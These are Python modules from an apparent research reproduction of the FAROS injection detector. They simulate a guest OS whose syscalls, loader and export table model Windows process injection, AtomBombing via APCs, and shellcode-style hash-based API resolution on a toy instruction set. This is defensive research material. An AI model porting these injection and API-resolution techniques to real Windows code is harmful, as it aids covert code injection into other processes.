            return proc.add_handle("file", FileHandle(node))
        if number == Sys.OPEN_FILE:
            path = self._read_user_string(proc, a1)
            if not self.fs.exists(path):
                return ERR
            return proc.add_handle("file", FileHandle(self.fs.open(path)))
        if number == Sys.READ_FILE:
            fh = proc.get_handle(a1, "file")
            if fh is None:
                return ERR
            n = min(a3, len(fh.node.data) - fh.offset)
            if n <= 0:
                return 0
            version = fh.node.touch()
            self.fs.audit_log.append(("read", fh.node.path))
            data = bytes(fh.node.data[fh.offset : fh.offset + n])
            paddrs = proc.aspace.translate_range(a2, n, AccessKind.WRITE)
            machine.phys_write(paddrs, data, source=f"file:{fh.node.path}")
            machine.plugins.on_file_read(
                machine, proc, fh.node.path, version, paddrs
            )
            fh.offset += n
            return n
        if number == Sys.WRITE_FILE:
            fh = proc.get_handle(a1, "file")
            if fh is None:
                return ERR
            data, src_paddrs = self._read_user(proc, a2, a3)
            version = fh.node.touch()
            self.fs.audit_log.append(("write", fh.node.path))
            end = fh.offset + len(data)
            if len(fh.node.data) < end:
                fh.node.data.extend(b"\x00" * (end - len(fh.node.data)))
            fh.node.data[fh.offset : end] = data
            machine.plugins.on_file_write(
                machine, proc, fh.node.path, version, src_paddrs
            )
            fh.offset = end
            return len(data)
        if number == Sys.CLOSE:
            entry = proc.close_handle(a1)
            if entry is None:
                return ERR
            if entry.kind == "socket":
                self.netstack.close(self.netstack.get(entry.obj))
            return 0
        if number == Sys.DELETE_FILE:
            path = self._read_user_string(proc, a1)
            if not self.fs.exists(path):
                return ERR
            self.fs.delete(path)
            return 0

        # ---- network ---------------------------------------------------
        if number == Sys.SOCKET:
            sock = self.netstack.create(proc.pid)
            return proc.add_handle("socket", sock.sock_id)
        if number == Sys.CONNECT:
            sock = self._socket_for(proc, a1)
            if sock is None:
                return ERR
            ip = self._read_user_string(proc, a2)
            self.netstack.connect(sock, ip, a3)
            machine.send_packet(
                Packet(self.netstack.local_ip, sock.local_port, ip, a3, b"")
            )
            return 0
        if number == Sys.SEND:
            sock = self._socket_for(proc, a1)
            if sock is None or not sock.connected:
                return ERR
            data, _ = self._read_user(proc, a2, a3)
            machine.send_packet(
                Packet(
                    self.netstack.local_ip,
                    sock.local_port,
                    sock.remote_ip,
                    sock.remote_port,
                    data,
                )
            )
            return len(data)
        if number == Sys.RECV:
            sock = self._socket_for(proc, a1)
            if sock is None or not sock.connected:
                return ERR
            if sock.rx_available() == 0:
                if not retrying:
                    self._block(thread, WaitReason.RECV, sock.sock_id, number, args)
                return None
            n = min(a3, sock.rx_available())
            src_paddrs = self.netstack.consume(sock, n)
            dst_paddrs = proc.aspace.translate_range(a2, n, AccessKind.WRITE)
            machine.phys_copy(dst_paddrs, src_paddrs, actor=proc)
            return n
        if number == Sys.LISTEN:
            sock = self._socket_for(proc, a1)
            if sock is None:
                return ERR
            self.netstack.listen(sock, a2)
            return 0
        if number == Sys.ACCEPT:
            sock = self._socket_for(proc, a1)
            if sock is None or not sock.listening:
                return ERR
            if not sock.accept_queue:
                if not retrying:
                    self._block(thread, WaitReason.ACCEPT, sock.sock_id, number, args)
                return None
            child = sock.accept_queue.popleft()
            return proc.add_handle("socket", child.sock_id)

        # ---- other processes (the injection surface) --------------------
        if number == Sys.CREATE_PROCESS:
            path = self._read_user_string(proc, a1)
            if self.image_program(path) is None:
                return ERR
            child = self.spawn(path, suspended=bool(a2), parent=proc)
            return proc.add_handle("process", child.pid)
        if number == Sys.FIND_PROCESS:
            name = self._read_user_string(proc, a1)
            target = self.find_process(name, exclude_pid=proc.pid)
            return target.pid if target else ERR
        if number == Sys.OPEN_PROCESS:
            target = self.processes.get(a1)
            if target is None or not target.alive:
                return ERR
            return proc.add_handle("process", target.pid)
        if number == Sys.READ_VM:
            target = self._process_for(proc, a1)
            if target is None:
                return ERR
            src = target.aspace.translate_range(a2, a4, AccessKind.READ)
            dst = proc.aspace.translate_range(a3, a4, AccessKind.WRITE)
            machine.phys_copy(dst, src, actor=proc)
            return a4
        if number == Sys.WRITE_VM:
            target = self._process_for(proc, a1)
            if target is None:
                return ERR
            src = proc.aspace.translate_range(a3, a4, AccessKind.READ)
            dst = target.aspace.translate_range(a2, a4, AccessKind.WRITE)
            machine.phys_copy(dst, src, actor=proc)
            return a4
        if number == Sys.ALLOC_VM:
            target = self._process_for(proc, a1)
            if target is None:
                return ERR
            return self._alloc_in(target.aspace, size=a2, perms=a3, addr_hint=a4)
        if number == Sys.PROTECT_VM:
            target = self._process_for(proc, a1)
            if target is None:
                return ERR
            target.aspace.protect_region(a2, a3, a4 or PERM_RW)
            return 0
        if number == Sys.UNMAP_VM:
            target = self._process_for(proc, a1)
            if target is None:
                return ERR
            try:
                target.aspace.unmap_region(a2)
                return 0
            except GuestFault:
                return ERR
        if number == Sys.CREATE_REMOTE_THREAD:
            target = self._process_for(proc, a1)
            if target is None:
                return ERR
            stack_base = target.aspace.find_free(
                STACK_BYTES, layout.HEAP_BASE, layout.HEAP_LIMIT
            )
            target.aspace.map_region(stack_base, STACK_BYTES, PERM_RW, name="remote-stack")
            remote = self._new_thread(
                target, entry=a2, sp=stack_base + STACK_BYTES, arg=a3
            )
            self._enqueue(remote)
            return remote.tid
        if number == Sys.RESUME_THREAD:
            target = self._process_for(proc, a1)
            if target is None:
                return ERR
            for t in target.threads:
                if t.state is ThreadState.SUSPENDED:
                    self._enqueue(t)
            return 0
        if number == Sys.SUSPEND_THREAD:
            target = self._process_for(proc, a1)
            if target is None:
                return ERR
            for t in target.threads:
                if t.state in (ThreadState.READY, ThreadState.RUNNING):
                    t.state = ThreadState.SUSPENDED
            self._ready = deque(t for t in self._ready if t.process is not target)
            return 0
        if number == Sys.TERMINATE:
            target = self._process_for(proc, a1)
            if target is None:
                return ERR
            self.terminate_process(target, a2)
            return 0
        if number == Sys.SET_CONTEXT:
            target = self._process_for(proc, a1)
            if target is None:
                return ERR
            target.main_thread.context["pc"] = a2 & 0xFFFFFFFF
            return 0
        if number == Sys.GET_CONTEXT:
            target = self._process_for(proc, a1)
            if target is None:
                return ERR
            return target.main_thread.context["pc"]
        if number == Sys.QUERY_PROCESS:
            target = self._process_for(proc, a1)
            return target.pid if target else ERR

        # ---- loader services --------------------------------------------
        if number == Sys.LOAD_DLL:
            path = self._read_user_string(proc, a1)
            return self._load_dll(proc, path)
        if number == Sys.GET_PROC_ADDR:
            for name, addr in self.kernel_module.exports.items():
                if fnv1a32(name) == a1:
                    return addr
            return ERR

        # ---- devices ------------------------------------------------------
        if number == Sys.READ_KEYS:
            data = machine.devices.keyboard.read(a2)
            if data:
                paddrs = proc.aspace.translate_range(a1, len(data), AccessKind.WRITE)
                machine.phys_write(paddrs, data, source="keyboard")
            return len(data)
        if number == Sys.READ_AUDIO:
            data = machine.devices.audio.read(a2)
            paddrs = proc.aspace.translate_range(a1, len(data), AccessKind.WRITE)
            machine.phys_write(paddrs, data, source="audio")
            return len(data)
        if number == Sys.CAPTURE_SCREEN:
            data = machine.devices.screen.capture(0, min(a2, len(machine.devices.screen.framebuffer)))
            paddrs = proc.aspace.translate_range(a1, len(data), AccessKind.WRITE)
            machine.phys_write(paddrs, data, source="screen")
            return len(data)
        if number == Sys.DRAW_SCREEN:
            data, _ = self._read_user(proc, a1, a2)
            machine.devices.screen.draw(0, data[: len(machine.devices.screen.framebuffer)])
            return len(data)

        # ---- atom table + APCs (the AtomBombing surface) ---------------------
        if number == Sys.ADD_ATOM:
            if a2 <= 0 or a2 > 16 * PAGE_SIZE:
                return ERR
            src = proc.aspace.translate_range(a1, a2, AccessKind.READ)
            n_pages = (a2 + PAGE_SIZE - 1) >> PAGE_SHIFT
            try:
                frames = machine.allocator.alloc_many(n_pages)
            except MemoryError:
                return ERR
            dst = tuple(
                (frames[i >> PAGE_SHIFT] << PAGE_SHIFT) | (i & (PAGE_SIZE - 1))
                for i in range(a2)
            )
            machine.phys_copy(dst, src, actor=proc)
            atom = self._next_atom
            self._next_atom += 1
            self._atoms[atom] = (dst, a2)
            return atom
        if number == Sys.GET_ATOM:
            entry = self._atoms.get(a1)
            if entry is None:
                return ERR
            paddrs, length = entry
            n = min(a3, length)
            if n <= 0:
                return 0
            dst = proc.aspace.translate_range(a2, n, AccessKind.WRITE)
            # The copy-out runs in the CALLER's context: when an APC makes
            # the victim call GlobalGetAtomNameA, the victim is the actor
            # that pulls the bytes into its own memory.
            machine.phys_copy(dst, paddrs[:n], actor=proc)
            return n
        if number == Sys.QUEUE_APC:
            target = self._process_for(proc, a1)
            if target is None:
                return ERR
            from repro.guestos.loader import stub_address
            from repro.isa.registers import Reg

            try:
                stack_base = target.aspace.find_free(
                    STACK_BYTES, layout.HEAP_BASE, layout.HEAP_LIMIT
                )
            except MemoryError:
                return ERR
            target.aspace.map_region(stack_base, STACK_BYTES, PERM_RW, name="apc-stack")
            apc = self._new_thread(
                target, entry=a2, sp=stack_base + STACK_BYTES, arg=a3
            )
            apc.context["regs"][Reg.R2] = a4 & 0xFFFFFFFF
            apc.context["regs"][Reg.R3] = a5 & 0xFFFFFFFF
            # APCs aimed straight at an API stub must return somewhere
            # sane; the dispatcher points LR at ExitThread.
            apc.context["regs"][Reg.LR] = stub_address("ExitThread")
            self._enqueue(apc)
            return apc.tid
        if number == Sys.EXIT_THREAD:
            thread.state = ThreadState.DEAD
            if all(t.state is ThreadState.DEAD for t in proc.threads):
                self.terminate_process(proc, 0)
            return None

        # ---- shell ----------------------------------------------------------
        if number == Sys.EXEC_CMD:
            cmd = self._read_user_string(proc, a1)
            self.shell_log.append((proc.pid, cmd))
            if self.image_program(cmd) is not None:
                child = self.spawn(cmd, parent=proc)
                return proc.add_handle("process", child.pid)
            return 0

        return ERR  # unknown syscall number

    # ------------------------------------------------------------------
    # dispatch helpers
    # ------------------------------------------------------------------

    def _socket_for(self, proc: Process, handle: int) -> Optional[Socket]:
        sock_id = proc.get_handle(handle, "socket")
        if sock_id is None:
            return None
        try:
            return self.netstack.get(sock_id)
        except NetError:
            return None

    def _process_for(self, proc: Process, handle: int) -> Optional[Process]:
        pid = proc.get_handle(handle, "process")
        if pid is None:
            return None
        target = self.processes.get(pid)
        return target if target is not None and target.alive else None

    def _alloc_in(self, aspace: AddressSpace, size: int, perms: int, addr_hint: int) -> int:
        if size <= 0:
            return ERR
        perms = perms or PERM_RW
        if addr_hint:
            vaddr = addr_hint & ~(PAGE_SIZE - 1)
        else:
            try:
                vaddr = aspace.find_free(size, layout.HEAP_BASE, layout.HEAP_LIMIT)
            except MemoryError:
                return ERR
        try:
            aspace.map_region(vaddr, size, perms, name="private")
        except (ValueError, MemoryError):
            return ERR
        return vaddr

    def _load_dll(self, proc: Process, path: str) -> int:
        """The *registered* DLL-load path (what reflective loading skips)."""
        if not self.fs.exists(path):
            return ERR
        node = self.fs.open(path)
        version = node.touch()
        self.fs.audit_log.append(("read", node.path))
        image = bytes(node.data)
        try:
            base = proc.aspace.find_free(max(len(image), 1), layout.HEAP_BASE, layout.HEAP_LIMIT)
        except MemoryError:
            return ERR
        proc.aspace.map_region(base, max(len(image), 1), PERM_RWX, name=f"dll:{path}")
        for area in proc.aspace.areas:
            if area.name == f"dll:{path}":
                area.module = path
        if image:
            paddrs = proc.aspace.translate_range(base, len(image), AccessKind.WRITE)
            self.machine.phys_write(paddrs, image, source=f"file:{path}")
            self.machine.plugins.on_file_read(
                self.machine, proc, node.path, version, paddrs
            )
        module = Module(name=path, base=base, image=image, path=path)
        proc.modules.append(module)
        self.machine.plugins.on_module_load(self.machine, proc, module)
        return base
