"""The module loader: API stubs, export tables, and DLL mapping.

The kernel builds one **kernel module** at boot -- the analog of
``kernel32.dll``/``ntdll.dll``.  It contains:

* an *API stub* per exported function: three instructions
  (``movi r0, <sysno>; syscall; ret``) that trap into the kernel, the
  analog of the ``ntdll`` syscall stubs real shellcode ultimately calls;
* the **export table**: a ``count`` word followed by
  ``(name_hash, function_pointer)`` entry pairs, laid out in guest
  memory exactly where injected payloads go looking for it.

The module's frames are mapped *shared, read+execute* into every process
at :data:`KERNEL_SHARED_BASE` -- which is why the paper can say that any
pointer leading to a system service "will likely have been derived in
some way from the kernel's export tables that are mapped into the
process's address space".  FAROS taints each function-pointer field with
an *export-table* tag at module-load time.

Name hashes use FNV-1a, the classic shellcode import-resolution hash.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.guestos.layout import KERNEL_SHARED_BASE
from repro.guestos.syscalls import Sys
from repro.isa.assembler import assemble

#: Exported API -> syscall it traps to.  Order defines stub addresses.
API_TABLE: Tuple[Tuple[str, Sys], ...] = (
    ("LoadLibraryA", Sys.LOAD_DLL),
    ("GetProcAddress", Sys.GET_PROC_ADDR),
    ("VirtualAlloc", Sys.ALLOC),
    ("VirtualProtect", Sys.PROTECT),
    ("VirtualFree", Sys.FREE),
    ("OpenProcess", Sys.OPEN_PROCESS),
    ("FindProcess", Sys.FIND_PROCESS),
    ("WriteProcessMemory", Sys.WRITE_VM),
    ("ReadProcessMemory", Sys.READ_VM),
    ("VirtualAllocEx", Sys.ALLOC_VM),
    ("VirtualProtectEx", Sys.PROTECT_VM),
    ("NtUnmapViewOfSection", Sys.UNMAP_VM),
    ("CreateRemoteThread", Sys.CREATE_REMOTE_THREAD),
    ("CreateProcessA", Sys.CREATE_PROCESS),
    ("ResumeThread", Sys.RESUME_THREAD),
    ("SuspendThread", Sys.SUSPEND_THREAD),
    ("TerminateProcess", Sys.TERMINATE),
    ("SetThreadContext", Sys.SET_CONTEXT),
    ("GetThreadContext", Sys.GET_CONTEXT),
    ("QueryProcess", Sys.QUERY_PROCESS),
    ("CreateFileA", Sys.CREATE_FILE),
    ("OpenFileA", Sys.OPEN_FILE),
    ("ReadFile", Sys.READ_FILE),
    ("WriteFile", Sys.WRITE_FILE),
    ("CloseHandle", Sys.CLOSE),
    ("DeleteFileA", Sys.DELETE_FILE),
    ("socket", Sys.SOCKET),
    ("connect", Sys.CONNECT),
    ("send", Sys.SEND),
    ("recv", Sys.RECV),
    ("listen", Sys.LISTEN),
    ("accept", Sys.ACCEPT),
    ("Sleep", Sys.SLEEP),
    ("ExitProcess", Sys.EXIT),
    ("WriteConsoleA", Sys.WRITE_CONSOLE),
    ("GetSystemTime", Sys.GET_TIME),
    ("GetAsyncKeyState", Sys.READ_KEYS),
    ("waveInRead", Sys.READ_AUDIO),
    ("BitBlt", Sys.CAPTURE_SCREEN),
    ("DrawScreen", Sys.DRAW_SCREEN),
    ("WinExec", Sys.EXEC_CMD),
    ("GlobalAddAtomA", Sys.ADD_ATOM),
    ("GlobalGetAtomNameA", Sys.GET_ATOM),
    ("NtQueueApcThread", Sys.QUEUE_APC),
    ("ExitThread", Sys.EXIT_THREAD),
)

_STUB_SIZE = 3 * 8  # movi + syscall + ret


def fnv1a32(name: str) -> int:
    """FNV-1a 32-bit hash of *name* -- the shellcode import hash."""
    h = 0x811C9DC5
    for ch in name.encode("ascii"):
        h ^= ch
        h = (h * 0x01000193) & 0xFFFFFFFF
    return h


def stub_address(name: str) -> int:
    """Virtual address of *name*'s API stub in every process."""
    for index, (api, _sys) in enumerate(API_TABLE):
        if api == name:
            return KERNEL_SHARED_BASE + index * _STUB_SIZE
    raise KeyError(f"no such API: {name}")


def export_table_address() -> int:
    """Virtual address of the kernel module's export table."""
    return KERNEL_SHARED_BASE + len(API_TABLE) * _STUB_SIZE


@dataclass
class Module:
    """A loaded module: name, mapped range, exports.

    :ivar export_pointer_vaddrs: virtual addresses of every 4-byte
        function-pointer field inside the export table -- the exact bytes
        FAROS taints with *export-table* tags.
    """

    name: str
    base: int
    image: bytes
    exports: Dict[str, int] = field(default_factory=dict)
    export_table_vaddr: Optional[int] = None
    export_pointer_vaddrs: Tuple[int, ...] = ()
    #: Function name for each entry of :attr:`export_pointer_vaddrs`
    #: (same order) -- what augmented export-table tags are minted from.
    export_pointer_names: Tuple[str, ...] = ()
    path: Optional[str] = None

    @property
    def size(self) -> int:
        return len(self.image)

    def __repr__(self) -> str:
        return f"Module({self.name!r} @ {self.base:#x}, {self.size} bytes)"


_KERNEL_MODULE_CACHE: Optional[Module] = None


def build_kernel_module() -> Module:
    """Assemble the shared kernel module (stubs + export table).

    The module is deterministic and treated as read-only by every
    kernel, so the assembly result is memoized across machines.
    """
    global _KERNEL_MODULE_CACHE
    if _KERNEL_MODULE_CACHE is not None:
        return _KERNEL_MODULE_CACHE
    lines: List[str] = []
    for index, (api, sysno) in enumerate(API_TABLE):
        lines.append(f"stub_{index}:")
        lines.append(f"    movi r0, {int(sysno)}")
        lines.append("    syscall")
        lines.append("    ret")
    lines.append("export_table:")
    lines.append(f"    .word {len(API_TABLE)}")
    for index, (api, _sysno) in enumerate(API_TABLE):
        lines.append(f"    .word {fnv1a32(api)}, stub_{index}")
    program = assemble("\n".join(lines), base=KERNEL_SHARED_BASE)

    table_vaddr = program.label("export_table")
    exports = {api: program.label(f"stub_{index}") for index, (api, _s) in enumerate(API_TABLE)}
    # Entry i's function pointer sits at table + 4 (count) + i*8 + 4 (hash).
    pointer_vaddrs = tuple(
        table_vaddr + 4 + index * 8 + 4 for index in range(len(API_TABLE))
    )
    assert table_vaddr == export_table_address()
    assert all(exports[api] == stub_address(api) for api, _s in API_TABLE)
    _KERNEL_MODULE_CACHE = Module(
        name="kernel32.dll",
        base=KERNEL_SHARED_BASE,
        image=program.code,
        exports=exports,
        export_table_vaddr=table_vaddr,
        export_pointer_vaddrs=pointer_vaddrs,
        export_pointer_names=tuple(api for api, _s in API_TABLE),
    )
    return _KERNEL_MODULE_CACHE


def export_resolver_asm(api_name: str, result_reg: str = "r7") -> str:
    """Assembly for shellcode-style export-table resolution of *api_name*.

    Emits a scan loop over the export table that compares each entry's
    hash against ``fnv1a32(api_name)`` and, on a match, **loads the
    function pointer** into *result_reg*.  That load instruction is the
    paper's attack invariant: executed from injected (netflow/process
    tagged) bytes while reading export-table tagged memory.

    The snippet uses r4 (cursor), r5 (remaining count), r6 (scratch) and
    falls through after resolution; callers must keep those registers
    free and provide unique surrounding labels via ``.format(uid=...)``
    -- the string contains ``{uid}`` placeholders.
    """
    target_hash = fnv1a32(api_name)
    return f"""
    ; resolve {api_name} by hash from the export table (shellcode-style)
    movi r4, {export_table_address()}
    ld r5, [r4]              ; entry count
    addi r4, r4, 4
resolve_loop_{{uid}}:
    ld r6, [r4]              ; entry hash
    cmpi r6, {target_hash}
    jz resolve_hit_{{uid}}
    addi r4, r4, 8
    subi r5, r5, 1
    cmpi r5, 0
    jnz resolve_loop_{{uid}}
    hlt                      ; unresolvable: crash loudly
resolve_hit_{{uid}}:
    ld {result_reg}, [r4+4]  ; THE flagged load: fnptr from export table
"""
