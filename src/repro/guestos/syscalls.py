"""Syscall numbers, Windows-style names, and argument metadata.

The guest ABI: the syscall number goes in ``R0``, arguments in
``R1``-``R5``, and the result returns in ``R0``.  :data:`ERR`
(``0xFFFFFFFF``) signals failure.

Each syscall carries an :class:`ArgSpec` list.  This is the metadata the
``syscalls2`` plugin uses to follow pointer arguments (so FAROS can taint
file buffers) and what the Cuckoo baseline uses to render human-readable
API traces -- the analog of Cuckoo's API hooking signatures.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Dict, Sequence, Tuple

#: Universal failure return value (the guest's NTSTATUS error analog).
ERR = 0xFFFFFFFF


class Sys(enum.IntEnum):
    """Syscall numbers."""

    # process self-management
    EXIT = 1
    WRITE_CONSOLE = 2
    SLEEP = 3
    GET_TIME = 4

    # own virtual memory
    ALLOC = 10
    FREE = 11
    PROTECT = 12

    # filesystem
    CREATE_FILE = 20
    OPEN_FILE = 21
    READ_FILE = 22
    WRITE_FILE = 23
    CLOSE = 24
    DELETE_FILE = 25

    # network
    SOCKET = 30
    CONNECT = 31
    SEND = 32
    RECV = 33
    LISTEN = 34
    ACCEPT = 35

    # other processes (the injection surface)
    CREATE_PROCESS = 40
    FIND_PROCESS = 41
    OPEN_PROCESS = 42
    READ_VM = 43
    WRITE_VM = 44
    ALLOC_VM = 45
    PROTECT_VM = 46
    UNMAP_VM = 47
    CREATE_REMOTE_THREAD = 48
    RESUME_THREAD = 49
    SUSPEND_THREAD = 50
    TERMINATE = 51
    SET_CONTEXT = 52
    GET_CONTEXT = 53
    QUERY_PROCESS = 54

    # loader services
    LOAD_DLL = 60
    GET_PROC_ADDR = 61

    # devices
    READ_KEYS = 70
    READ_AUDIO = 71
    CAPTURE_SCREEN = 72
    DRAW_SCREEN = 73

    # shell
    EXEC_CMD = 80

    # atom table + APCs (the AtomBombing surface)
    ADD_ATOM = 90
    GET_ATOM = 91
    QUEUE_APC = 92
    EXIT_THREAD = 93


#: The Windows API/syscall each number stands in for -- used by reports,
#: the Cuckoo baseline's traces, and the OSI plugin.
WINDOWS_NAMES: Dict[int, str] = {
    Sys.EXIT: "NtTerminateProcess(self)",
    Sys.WRITE_CONSOLE: "NtDisplayString",
    Sys.SLEEP: "NtDelayExecution",
    Sys.GET_TIME: "NtQuerySystemTime",
    Sys.ALLOC: "NtAllocateVirtualMemory",
    Sys.FREE: "NtFreeVirtualMemory",
    Sys.PROTECT: "NtProtectVirtualMemory",
    Sys.CREATE_FILE: "NtCreateFile",
    Sys.OPEN_FILE: "NtOpenFile",
    Sys.READ_FILE: "NtReadFile",
    Sys.WRITE_FILE: "NtWriteFile",
    Sys.CLOSE: "NtClose",
    Sys.DELETE_FILE: "NtDeleteFile",
    Sys.SOCKET: "NtDeviceIoControlFile(AFD_CREATE)",
    Sys.CONNECT: "NtDeviceIoControlFile(AFD_CONNECT)",
    Sys.SEND: "NtDeviceIoControlFile(AFD_SEND)",
    Sys.RECV: "NtDeviceIoControlFile(AFD_RECV)",
    Sys.LISTEN: "NtDeviceIoControlFile(AFD_LISTEN)",
    Sys.ACCEPT: "NtDeviceIoControlFile(AFD_ACCEPT)",
    Sys.CREATE_PROCESS: "NtCreateUserProcess",
    Sys.FIND_PROCESS: "NtGetNextProcess",
    Sys.OPEN_PROCESS: "NtOpenProcess",
    Sys.READ_VM: "NtReadVirtualMemory",
    Sys.WRITE_VM: "NtWriteVirtualMemory",
    Sys.ALLOC_VM: "NtAllocateVirtualMemory(remote)",
    Sys.PROTECT_VM: "NtProtectVirtualMemory(remote)",
    Sys.UNMAP_VM: "NtUnmapViewOfSection",
    Sys.CREATE_REMOTE_THREAD: "NtCreateThreadEx",
    Sys.RESUME_THREAD: "NtResumeThread",
    Sys.SUSPEND_THREAD: "NtSuspendThread",
    Sys.TERMINATE: "NtTerminateProcess",
    Sys.SET_CONTEXT: "NtSetContextThread",
    Sys.GET_CONTEXT: "NtGetContextThread",
    Sys.QUERY_PROCESS: "NtQueryInformationProcess",
    Sys.LOAD_DLL: "LdrLoadDll",
    Sys.GET_PROC_ADDR: "LdrGetProcedureAddress",
    Sys.READ_KEYS: "NtUserGetAsyncKeyState",
    Sys.READ_AUDIO: "NtDeviceIoControlFile(AUDIO_CAPTURE)",
    Sys.CAPTURE_SCREEN: "NtGdiBitBlt(capture)",
    Sys.DRAW_SCREEN: "NtGdiBitBlt(draw)",
    Sys.EXEC_CMD: "WinExec",
    Sys.ADD_ATOM: "GlobalAddAtomA",
    Sys.GET_ATOM: "GlobalGetAtomNameA",
    Sys.QUEUE_APC: "NtQueueApcThread",
    Sys.EXIT_THREAD: "NtTerminateThread(self)",
}


def syscall_name(number: int) -> str:
    """Windows-style display name for *number* (``sys_<n>`` if unknown)."""
    return WINDOWS_NAMES.get(number, f"sys_{number}")


class ArgKind(enum.Enum):
    """How syscalls2 should interpret one argument register."""

    INT = "int"          # plain scalar
    HANDLE = "handle"    # file/socket/process handle
    PTR_STR = "str"      # pointer to NUL-terminated guest string
    PTR_IN = "buf_in"    # pointer to a buffer the kernel reads
    PTR_OUT = "buf_out"  # pointer to a buffer the kernel writes
    LEN = "len"          # byte count for the preceding buffer pointer
    VADDR = "vaddr"      # a virtual address (not dereferenced here)
    PERMS = "perms"      # a permission mask


@dataclass(frozen=True)
class ArgSpec:
    name: str
    kind: ArgKind


def _spec(*pairs: Tuple[str, ArgKind]) -> Tuple[ArgSpec, ...]:
    return tuple(ArgSpec(name, kind) for name, kind in pairs)


#: Per-syscall argument metadata (args map to R1.. in order).
ARG_SPECS: Dict[int, Tuple[ArgSpec, ...]] = {
    Sys.EXIT: _spec(("status", ArgKind.INT)),
    Sys.WRITE_CONSOLE: _spec(("buf", ArgKind.PTR_IN), ("len", ArgKind.LEN)),
    Sys.SLEEP: _spec(("ticks", ArgKind.INT)),
    Sys.GET_TIME: (),
    Sys.ALLOC: _spec(("size", ArgKind.INT), ("perms", ArgKind.PERMS)),
    Sys.FREE: _spec(("addr", ArgKind.VADDR)),
    Sys.PROTECT: _spec(("addr", ArgKind.VADDR), ("size", ArgKind.INT), ("perms", ArgKind.PERMS)),
    Sys.CREATE_FILE: _spec(("path", ArgKind.PTR_STR)),
    Sys.OPEN_FILE: _spec(("path", ArgKind.PTR_STR)),
    Sys.READ_FILE: _spec(("handle", ArgKind.HANDLE), ("buf", ArgKind.PTR_OUT), ("len", ArgKind.LEN)),
    Sys.WRITE_FILE: _spec(("handle", ArgKind.HANDLE), ("buf", ArgKind.PTR_IN), ("len", ArgKind.LEN)),
    Sys.CLOSE: _spec(("handle", ArgKind.HANDLE)),
    Sys.DELETE_FILE: _spec(("path", ArgKind.PTR_STR)),
    Sys.SOCKET: (),
    Sys.CONNECT: _spec(("handle", ArgKind.HANDLE), ("ip", ArgKind.PTR_STR), ("port", ArgKind.INT)),
    Sys.SEND: _spec(("handle", ArgKind.HANDLE), ("buf", ArgKind.PTR_IN), ("len", ArgKind.LEN)),
    Sys.RECV: _spec(("handle", ArgKind.HANDLE), ("buf", ArgKind.PTR_OUT), ("len", ArgKind.LEN)),
    Sys.LISTEN: _spec(("handle", ArgKind.HANDLE), ("port", ArgKind.INT)),
    Sys.ACCEPT: _spec(("handle", ArgKind.HANDLE)),
    Sys.CREATE_PROCESS: _spec(("image", ArgKind.PTR_STR), ("suspended", ArgKind.INT)),
    Sys.FIND_PROCESS: _spec(("name", ArgKind.PTR_STR)),
    Sys.OPEN_PROCESS: _spec(("pid", ArgKind.INT)),
    Sys.READ_VM: _spec(
        ("handle", ArgKind.HANDLE), ("remote_addr", ArgKind.VADDR),
        ("buf", ArgKind.PTR_OUT), ("len", ArgKind.LEN),
    ),
    Sys.WRITE_VM: _spec(
        ("handle", ArgKind.HANDLE), ("remote_addr", ArgKind.VADDR),
        ("buf", ArgKind.PTR_IN), ("len", ArgKind.LEN),
    ),
    Sys.ALLOC_VM: _spec(
        ("handle", ArgKind.HANDLE), ("size", ArgKind.INT),
        ("perms", ArgKind.PERMS), ("addr_hint", ArgKind.VADDR),
    ),
    Sys.PROTECT_VM: _spec(
        ("handle", ArgKind.HANDLE), ("addr", ArgKind.VADDR),
        ("size", ArgKind.INT), ("perms", ArgKind.PERMS),
    ),
    Sys.UNMAP_VM: _spec(("handle", ArgKind.HANDLE), ("addr", ArgKind.VADDR)),
    Sys.CREATE_REMOTE_THREAD: _spec(
        ("handle", ArgKind.HANDLE), ("entry", ArgKind.VADDR), ("arg", ArgKind.INT),
    ),
    Sys.RESUME_THREAD: _spec(("handle", ArgKind.HANDLE)),
    Sys.SUSPEND_THREAD: _spec(("handle", ArgKind.HANDLE)),
    Sys.TERMINATE: _spec(("handle", ArgKind.HANDLE), ("status", ArgKind.INT)),
    Sys.SET_CONTEXT: _spec(("handle", ArgKind.HANDLE), ("pc", ArgKind.VADDR)),
    Sys.GET_CONTEXT: _spec(("handle", ArgKind.HANDLE)),
    Sys.QUERY_PROCESS: _spec(("handle", ArgKind.HANDLE)),
    Sys.LOAD_DLL: _spec(("path", ArgKind.PTR_STR)),
    Sys.GET_PROC_ADDR: _spec(("name_hash", ArgKind.INT)),
    Sys.READ_KEYS: _spec(("buf", ArgKind.PTR_OUT), ("len", ArgKind.LEN)),
    Sys.READ_AUDIO: _spec(("buf", ArgKind.PTR_OUT), ("len", ArgKind.LEN)),
    Sys.CAPTURE_SCREEN: _spec(("buf", ArgKind.PTR_OUT), ("len", ArgKind.LEN)),
    Sys.DRAW_SCREEN: _spec(("buf", ArgKind.PTR_IN), ("len", ArgKind.LEN)),
    Sys.EXEC_CMD: _spec(("cmd", ArgKind.PTR_STR)),
    Sys.ADD_ATOM: _spec(("buf", ArgKind.PTR_IN), ("len", ArgKind.LEN)),
    Sys.GET_ATOM: _spec(
        ("atom", ArgKind.INT), ("buf", ArgKind.PTR_OUT), ("max", ArgKind.LEN)
    ),
    Sys.QUEUE_APC: _spec(
        ("handle", ArgKind.HANDLE), ("entry", ArgKind.VADDR),
        ("arg1", ArgKind.INT), ("arg2", ArgKind.INT), ("arg3", ArgKind.INT),
    ),
    Sys.EXIT_THREAD: (),
}


def arg_specs(number: int) -> Sequence[ArgSpec]:
    """Argument metadata for *number* (empty if unknown)."""
    return ARG_SPECS.get(number, ())
