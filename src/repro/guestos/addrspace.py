"""Per-process virtual address spaces (page tables + VADs).

An :class:`AddressSpace` implements the CPU's MMU protocol and doubles as
the bookkeeping Volatility-style tools inspect: every mapped region is
described by a :class:`VirtualArea` (the analog of a Windows VAD), so the
``malfind`` baseline can scan for suspicious private+executable areas the
same way the real plugin walks the VAD tree.

The address space id (:attr:`AddressSpace.asid`) is the architectural
process identity -- the paper's CR3.  It is what FAROS uses for *process*
tags, because it cannot be spoofed from inside the guest.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

from repro.faults.errors import GuestResourceExhausted
from repro.isa.cpu import AccessKind
from repro.isa.errors import PageFault
from repro.isa.memory import PAGE_SHIFT, PAGE_SIZE, FrameAllocator

PERM_R = 1
PERM_W = 2
PERM_X = 4
